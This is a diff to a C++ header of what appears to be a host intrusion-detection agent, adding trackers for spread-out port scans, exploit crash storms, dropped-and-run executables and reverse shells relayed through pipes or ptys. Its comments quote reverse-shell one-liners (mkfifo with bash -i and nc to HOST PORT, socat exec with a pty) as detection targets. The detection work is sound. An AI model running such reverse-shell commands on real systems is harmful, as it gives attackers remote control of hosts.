@@ -23,6 +23,7 @@
 #include <unordered_map>
 #include <vector>
 
+#include "vigil/agent/process_table.h"
 #include "vigil/result.h"
 
 namespace vigil::agent {
@@ -130,16 +131,44 @@ class RhythmTracker {
   std::unordered_map<std::string, Entry, KeyHash, std::equal_to<>> index_;
 };
 
-// Connect scans: one process failing to connect to many distinct ports within
-// a window. Reports once per process per window. Bounded: past `capacity`
-// tracked processes the table starts over.
+// Who did something, by every unit an attacker can spread work across: the
+// process, its parent, its process tree (ProcessInfo::tree: one login session,
+// one service, one container), its user and its executable.
+struct Actor {
+  std::uint32_t pid = 0;
+  std::uint32_t ppid = 0;
+  std::uint32_t tree = 0;  // 0: unknown
+  std::uint32_t uid = 0;
+  std::string_view exe;  // empty: unknown
+};
+
+// Which unit a spread-out finding added up in, narrowest first.
+enum class Spread : std::uint8_t { kNone, kProcess, kTree, kExecutable, kUser };
+[[nodiscard]] std::string_view to_string(Spread spread);
+
+// SIGSEGV, SIGBUS, SIGILL, SIGABRT: deaths that brute-forced exploits leave.
+[[nodiscard]] bool is_crash_signal(std::uint32_t sig);
+// IPPROTO_TCP, for SockData::proto.
+inline constexpr std::uint16_t kProtoTcp = 6;
+
+// A shell reads its commands from stdin (no -c, no script operand): what a
+// reverse shell runs (`bash -i`, `sh`, `bash -li`, `python3`, `sh -s`).
+[[nodiscard]] bool reads_commands_from_stdin(std::span<const std::string> args);
+
+// Connect scans: failed connects to many distinct ports within a window, one
+// count per process (any address) and, so a loop of one-port processes cannot
+// hide, per process tree, executable and user (ports of one address each).
+// Reports once per unit per window. Bounded: past `capacity` tracked units the
+// expired ones go, then the table starts over.
 class ConnectScanTracker {
  public:
   ConnectScanTracker(std::size_t min_ports = 20, double window_s = 10, std::size_t capacity = 4096)
       : min_ports_(min_ports), window_s_(window_s), capacity_(capacity) {}
-  // A failed connect by `pid` to `port` at `now` (seconds). True the first
-  // time the process reaches min_ports distinct ports within the window.
-  bool observe(std::uint32_t pid, std::uint16_t port, double now);
+  // A failed connect by `actor` to `raddr`:`port` at `now` (seconds). Returns
+  // the narrowest unit that has just reached min_ports distinct ports; a report
+  // silences every unit of that event until its own window closes.
+  Spread observe(const Actor& actor, std::string_view raddr, std::uint16_t port, double now);
+  [[nodiscard]] std::size_t size() const { return entries_.size(); }
 
  private:
   struct Entry {
@@ -150,52 +179,141 @@ class ConnectScanTracker {
   std::size_t min_ports_;
   double window_s_;
   std::size_t capacity_;
-  std::unordered_map<std::uint32_t, Entry> entries_;
+  std::unordered_map<std::uint64_t, Entry> entries_;
 };
+
+// Crash storms spread over processes: deaths by SIGSEGV/SIGBUS/SIGILL/SIGABRT
+// counted per process tree and per user (the kernel counts per executable
+// inode; copies of a binary, or many binaries, escape that). Reports once per
+// unit per window.
+class CrashSpreadTracker {
+ public:
+  CrashSpreadTracker(std::uint32_t min_crashes = 20, double window_s = 10,
+                     std::size_t capacity = 4096)
+      : min_crashes_(min_crashes), window_s_(window_s), capacity_(capacity) {}
+  // A fatal-signal death of a process of `actor`. Returns the unit that has
+  // just reached min_crashes within the window.
+  Spread observe(const Actor& actor, double now);
+  // The kernel reported a storm for this actor's executable: its tree and user
+  // are silenced for the window, so one storm is one finding.
+  void reported(const Actor& actor, double now);
+
+ private:
+  struct Entry {
+    double start = 0;
+    std::uint32_t count = 0;
+    bool reported = false;
+  };
+  Entry& slot(std::uint64_t key, double now);
+  std::uint32_t min_crashes_;
+  double window_s_;
+  std::size_t capacity_;
+  std::unordered_map<std::uint64_t, Entry> entries_;
+};
+
+// The pipes a shell's output goes into, and the processes that may relay it
+// (reverse shells through pipes or a pty: `mkfifo f; cat f | bash -i 2>&1 | nc
+// HOST PORT > f`, `socat exec:'bash -li',pty tcp:...`, python's pty.spawn,
+// `script -qc bash` behind nc).
+struct ShellWiring {
+  std::uint32_t pid = 0;
+  std::uint32_t tree = 0;
+  // The parent (output on pipes) or the pty's holder (output on a pty), unless
+  // it is a login service: if it connects, it relays.
+  std::uint32_t relay = 0;
+  // Pipes (and FIFOs) the output goes into: the shell's own stdout/stderr, or
+  // those of the pty's holder. A process reading one of them on its stdin
+  // reads the shell's output.
+  std::array<std::uint64_t, 4> out{};
+  std::uint8_t n_out = 0;
+  // The pty's holder has a socket on its stdin or stdout (python's pty.spawn
+  // after dup2 of a connected socket): a relay however old the connection.
+  bool relay_on_socket = false;
+};
+
+// The wiring of shell `pid` (child of `ppid`, of `tree`) as a relayed shell
+// would have it: stdin and stdout each a pipe or a pty. nullopt otherwise
+// (a file, /dev/null, a socket: the last is a reverse shell of its own).
+[[nodiscard]] std::optional<ShellWiring> wire_shell(std::uint32_t pid, std::uint32_t ppid,
+                                                    std::uint32_t tree, const StdioWiring& w);
 
 // Patterns: short ordered sequences within one process tree.
 //  - dropped-exec: a freshly written file in a writable location is made
-//    executable, then run by the same tree (write -> chmod +x -> exec).
+//    executable, then run by the same tree or user (write -> chmod +x -> exec).
 //  - scan-connect-exec: a tree that scanned then made a successful connection
 //    then executes something (recon -> exploitation -> foothold).
-// A "tree" is the acting process and its parent: a later event matches when
-// its own lineage contains either. Stages expire after `window_s`. Bounded:
-// past `capacity` entries per stage the oldest are dropped.
+//  - reverse-shell through a relay: a shell reading stdin whose output leads
+//    (by pipe or pty) to a process that connected out.
+// A later event matches a stage when its own lineage contains the stage's
+// process or parent, or when both are in the same process tree (so a chain of
+// short-lived processes, `setsid` or a dead parent between them, still joins
+// up). Stages expire after `window_s`. Bounded: past `capacity` entries per
+// stage the oldest are dropped.
 class SequenceTracker {
  public:
   explicit SequenceTracker(double window_s = 120, std::size_t capacity = 1024)
       : window_s_(window_s), capacity_(capacity) {}
 
-  // write -> chmod +x: `path` was made executable by `pid` (child of `ppid`).
-  void made_executable(std::string_view path, std::uint32_t pid, std::uint32_t ppid, double now);
+  // write -> chmod +x: `path` was made executable by `actor`.
+  void made_executable(std::string_view path, const Actor& actor, double now);
   // ... -> exec: true when `exe` was made executable within the window by a
-  // process in `lineage` (the exec'ing process first, then its ancestors).
-  bool exec_of_dropped(std::string_view exe, std::span<const std::uint32_t> lineage, double now);
+  // process in `lineage` (the exec'ing process first, then its ancestors), of
+  // the exec'ing process's tree, or of its user.
+  bool exec_of_dropped(std::string_view exe, std::span<const std::uint32_t> lineage,
+                       const Actor& actor, double now);
 
-  // scan: `pid` (child of `ppid`) probed many ports.
-  void scanned(std::uint32_t pid, std::uint32_t ppid, double now);
-  // -> connect: a successful connection by a process whose lineage scanned.
-  void connected(std::span<const std::uint32_t> lineage, double now);
-  // -> exec: true when a process in `lineage` scanned and then connected.
-  bool exec_after_scan_connect(std::span<const std::uint32_t> lineage, double now);
+  // scan: `actor` probed many ports.
+  void scanned(const Actor& actor, double now);
+  // -> connect: a successful connection by a process whose lineage or tree scanned.
+  void connected(std::span<const std::uint32_t> lineage, const Actor& actor, double now);
+  // -> exec: true when a process in `lineage` or `actor`'s tree scanned and then connected.
+  bool exec_after_scan_connect(std::span<const std::uint32_t> lineage, const Actor& actor,
+                               double now);
+
   // connect -> exec of a shell through a relay (ncat -e, socat exec): `pid`
-  // made an outbound connection.
-  void connected_out(std::uint32_t pid, double now);
+  // (of `tree`) made an outbound TCP connection.
+  void connected_out(std::uint32_t pid, std::uint32_t tree, double now);
   // `pid` made an outbound connection within the last `within_s` seconds.
-  [[nodiscard]] bool recently_connected(std::uint32_t pid, double now, double within_s = 30) const;
+  [[nodiscard]] bool recently_connected(std::uint32_t pid, double now,
+                                        double within_s = kRelayWindowS) const;
+  // Up to out.size() processes of `tree` that connected out within the relay
+  // window (candidates for reading a shell's output); returns the count.
+  std::size_t recent_connects_in(std::uint32_t tree, double now,
+                                 std::span<std::uint32_t> out) const;
+  // A shell reading stdin through pipes or a pty whose relay is not known yet:
+  // kept for the relay window, matched when a process connects.
+  void shell_waiting(const ShellWiring& shell, double now);
+  // A shell of `tree` is waiting (a cheap guard before reading the connector's stdio).
+  [[nodiscard]] bool shells_waiting(std::uint32_t tree, double now) const;
+  // `pid` of `tree`, whose stdin is the pipe `stdin_pipe` (its FdEnd id; 0 if
+  // stdin is no pipe), connected: true (once per shell) when a waiting shell
+  // named it as its relay or writes its output into that pipe.
+  bool relay_connected(std::uint32_t pid, std::uint32_t tree, std::uint64_t stdin_pipe, double now);
 
   // Cheap guards so the hot path skips lineage walks when nothing is pending.
   [[nodiscard]] bool watching_scans() const { return !scans_.empty(); }
   [[nodiscard]] bool watching_connects() const { return !connects_.empty(); }
 
+  static constexpr double kRelayWindowS = 30;
+
  private:
   struct Stage {
     std::uint32_t pid;
     std::uint32_t ppid;
+    std::uint32_t tree;
+    std::uint32_t uid;
+    double at;
+  };
+  struct Outbound {
+    double at;
+    std::uint32_t tree;
+  };
+  struct Waiting {
+    ShellWiring shell;
     double at;
   };
   [[nodiscard]] bool tree_matches(const Stage& s, std::span<const std::uint32_t> lineage,
-                                  double now) const;
+                                  std::uint32_t tree, double now) const;
   void trim(std::deque<Stage>& q, double now) const;
 
   double window_s_;
@@ -203,8 +321,9 @@ class SequenceTracker {
   std::unordered_map<std::string, Stage> dropped_;  // path -> who made it executable
   std::deque<std::string> dropped_order_;
   std::deque<Stage> scans_;
-  std::deque<Stage> connects_;                          // connections made by trees that scanned
-  std::unordered_map<std::uint32_t, double> outbound_;  // pid -> last outbound connect
+  std::deque<Stage> connects_;                            // connections made by trees that scanned
+  std::unordered_map<std::uint32_t, Outbound> outbound_;  // pid -> last outbound connect
+  std::deque<Waiting> waiting_;                           // shells whose relay is not known yet
 };
 
 struct BaselineConfig {
